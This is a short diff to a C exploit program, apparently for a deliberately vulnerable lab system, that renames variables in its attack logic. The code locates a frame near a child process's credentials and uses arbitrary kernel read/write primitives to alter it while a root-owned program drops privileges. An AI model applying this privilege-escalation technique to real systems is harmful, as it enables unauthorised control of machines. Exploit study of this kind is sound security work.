@@ -20,7 +20,7 @@ int main(void)
 {
 	struct bw_message message = { 0 };
 	struct bw_leak leak;
-	uint64_t links, before;
+	uint64_t frame, before;
 	long endpoint, from;
 	pid_t child;
 
@@ -36,14 +36,14 @@ int main(void)
 	}
 
 	/* what the frame says of the pool's page that the child's credentials are in */
-	links = leak.credential + (uint64_t)((int64_t)(child - getpid()) * CREDENTIAL_BYTES);
-	links = attack_frame_links(&leak, links);
-	before = (uint64_t)bw_vuln_read(links);
+	frame = leak.credential + (uint64_t)((int64_t)(child - getpid()) * CREDENTIAL_BYTES);
+	frame = attack_frame(&leak, frame);
+	before = (uint64_t)bw_vuln_read(frame);
 	attack_say("root's program %d is about to drop its rights; its frame says 0x%lx", child,
 		   before);
-	attack_check("vuln_write", bw_vuln_write(links, before + (1ul << 32)));
+	attack_check("vuln_write", bw_vuln_write(frame, before + (1ul << 32)));
 	from = bw_ipc_reply_receive(endpoint, &message);
-	attack_check("vuln_write", bw_vuln_write(links, before));
+	attack_check("vuln_write", bw_vuln_write(frame, before));
 	if (from < 0) {
 		attack_say("it is gone");
 	} else {
